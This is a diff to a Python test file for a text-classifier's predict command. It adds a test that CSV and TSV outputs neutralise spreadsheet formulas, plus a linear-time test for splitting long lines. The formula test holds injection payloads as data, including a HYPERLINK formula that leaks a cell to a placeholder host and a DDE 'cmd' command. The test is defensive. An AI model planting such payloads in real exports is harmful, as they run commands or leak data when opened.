@@ -16,8 +16,10 @@ import sys
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
+from io import BufferedReader
 from pathlib import Path
-from typing import Any
+from types import SimpleNamespace
+from typing import Any, cast
 
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -38,7 +40,7 @@ from indictune.commands import predict
 from indictune.data.text.cleaning import clean
 from indictune.errors import UserError
 from indictune.models.serving_model import serve_as_trained
-from indictune.prediction.labelled_rows import label_texts
+from indictune.prediction.labelled_rows import label_texts, line_windows
 from tests.first_hour.saved_models import LABELS, MAX_LENGTH, saved_classifier
 from tests.first_hour.sheets import write_ods, write_xlsx
 from tests.ranks.launching import begin, python, start, torchrun
@@ -169,6 +171,33 @@ def test_a_file_becomes_a_file_of_the_same_rows(model: Path, tmp_path: Path) -> 
     assert [row["label"] for row in lines] == [row["label"] for row in table] == [row["label"] for row in expected]
     assert [row["language"] for row in lines] == [row["language"] for row in expected]
     assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv", "out.jsonl", "out.parquet"]
+
+
+@pytest.mark.parametrize("kind", ["csv", "tsv"])
+def test_no_cell_is_a_formula(model: Path, tmp_path: Path, kind: str) -> None:
+    """A spreadsheet would run it. Other kinds of files have the texts as they are."""
+    texts = ['=HYPERLINK("http://a.b?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "a = b", "-5", "+1.5"]
+    (tmp_path / "in.jsonl").write_text("".join(f"{json.dumps({'tweet': text, '=1': text})}\n" for text in texts))
+    for name in (f"out.{kind}", "out.jsonl"):
+        flags = ["--input_file", str(tmp_path / "in.jsonl"), "--output_file", str(tmp_path / name)]
+        assert main(["predict", str(model), *flags, "--keep_columns", "=1"]) == 0
+    with (tmp_path / f"out.{kind}").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file, delimiter="," if kind == "csv" else "\t"))
+    assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:4]] + texts[4:]
+    assert [row["'=1"] for row in rows] == [row["text"] for row in rows]
+    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["text"] for line in lines] == texts
+
+
+def test_a_long_line_costs_linear_time() -> None:
+    """64 MiB took 16 s, because each piece was joined to all before it."""
+    pieces = iter([b"a\nb", *[bytes(1 << 18)] * 256, b"\n\nc\n"])
+    stream = SimpleNamespace(read1=lambda _: next(pieces, b""))
+    begin = time.process_time()
+    windows = list(line_windows(cast(BufferedReader, stream), "f.txt"))
+    assert time.process_time() - begin < 5
+    lengths = [len(text) for window in windows for text in window["text"].to_pylist()]
+    assert lengths == [1, 1 + (64 << 20), 0, 1]
 
 
 def test_a_kept_column_does_not_hide_a_label(model: Path, tmp_path: Path) -> None:
